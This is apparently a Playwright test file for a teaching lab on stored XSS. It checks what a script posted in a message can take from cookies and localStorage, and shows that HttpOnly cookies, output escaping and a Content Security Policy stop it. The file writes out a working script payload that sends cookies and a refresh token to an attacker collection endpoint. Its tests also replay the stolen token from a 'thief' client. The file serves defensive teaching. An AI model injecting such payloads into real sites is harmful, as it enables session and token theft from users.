"""A script in a message: what it takes from localStorage and from cookies, and what stops it."""

import json
import re
import urllib.request

import pytest
from attack_lab import AttackLab, expect_refusals, log_in_on_board, open_board
from playwright.sync_api import Page, expect

# The note's own trap.
TRAP = (
    'Hi! <script>const site = location.hostname === "localhost" ? "127.0.0.1" : "localhost"; '
    "const loot = new URLSearchParams({ cookies: document.cookie, "
    'refresh_token: localStorage.getItem("signet.refresh_token") ?? "" }); '
    "new Image().src = `//${site}:${location.port}/attacker/collect?${loot}`;</script>"
)


@pytest.fixture
def lab(notebook) -> AttackLab:
    lab = AttackLab(notebook)
    lab.post_as_mallory(TRAP)
    return lab


@pytest.fixture
def victim(page) -> Page:
    expect_refusals(page.context)
    return page


def visit_the_trap(page: Page, lab: AttackLab) -> dict:
    """Opens the board and gives what the attacker then has of this visit."""
    with page.expect_response("**/attacker/collect?*"):
        open_board(page)
    return {pair["name"]: pair["value"] for pair in lab.loot()[0]["values"]}


def test_a_token_in_local_storage_is_stolen_and_works_on_another_computer(victim, lab):
    lab.set_policy(escape_output=False, refresh_token_delivery="body")
    open_board(victim)
    log_in_on_board(victim)
    stolen = visit_the_trap(victim, lab)["refresh_token"]
    assert stolen != ""
    assert stolen == victim.evaluate("localStorage.getItem('signet.refresh_token')")

    thief = victim.context.new_page()
    thief.goto(f"{lab.other}/attacker/loot")
    thief.get_by_role("button", name="Take the token of refresh_token").first.click()
    thief.get_by_role("button", name="Use it on another computer").click()
    expect(thief.get_by_role("status")).to_contain_text("To the sandbox you are ada now.")
    used = lab.traces("POST", "/auth/refresh")[-1]
    assert (used["client"], used["response"]["status"]) == ("thief", 200)


def test_a_cookie_without_http_only_is_stolen(victim, lab):
    lab.set_policy(escape_output=False, cookie_http_only=False)
    open_board(victim)
    log_in_on_board(victim)
    assert "__Host-refresh=" in visit_the_trap(victim, lab)["cookies"]


def test_an_http_only_cookie_is_out_of_the_scripts_reach(victim, lab):
    lab.set_policy(escape_output=False)
    open_board(victim)
    log_in_on_board(victim)
    assert visit_the_trap(victim, lab) == {"cookies": "", "refresh_token": ""}
    # The browser does have it, and sends it.
    assert "__Host-refresh" in [cookie["name"] for cookie in victim.context.cookies()]
    sent = lab.traces("GET", "/sandbox/board")[-1]["cookies"]["sent"]
    assert "__Host-refresh" in [cookie["name"] for cookie in sent]


def test_a_script_that_cannot_read_the_cookie_uses_it_and_carries_off_an_access_token(victim, notebook):
    lab = AttackLab(notebook)
    # The message of the challenge in the note on XSS.
    note = (notebook.notes / "xss.md").read_text(encoding="utf-8")
    lab.post_as_mallory(re.search(r"^message: (<script>fetch.*)$", note, re.MULTILINE)[1])
    lab.set_policy(escape_output=False)
    open_board(victim)
    log_in_on_board(victim)
    stolen = visit_the_trap(victim, lab)["token"]

    request = urllib.request.Request(f"{lab.url}/auth/me", headers={"Authorization": f"Bearer {stolen}"})
    with urllib.request.urlopen(request, timeout=10) as answer:
        assert json.load(answer)["username"] == "ada"


def test_an_escaped_message_is_read_and_not_run(victim, lab):
    lab.set_policy(refresh_token_delivery="body")
    open_board(victim)
    log_in_on_board(victim)
    open_board(victim)
    expect(victim.get_by_role("listitem")).to_contain_text("Hi! <script>const site")
    assert lab.loot() == []
    assert not any("/attacker/" in address for address in victim.context.watch.requests)


def test_the_content_security_policy_stops_a_script_that_was_not_escaped(victim, lab):
    """The strict policy is the second line: with it, the same unescaped page runs nothing."""
    lab.set_policy(escape_output=False)
    strict = victim.request.get("/index.html").headers["content-security-policy"]
    victim.context.watch.expect("Content Security Policy|violates the following")

    def serve_strictly(route):
        answer = route.fetch()
        route.fulfill(response=answer, headers={**answer.headers, "content-security-policy": strict})

    victim.route("**/sandbox/board", serve_strictly)
    open_board(victim)
    assert "<script>const site" in victim.content()
    assert lab.loot() == []
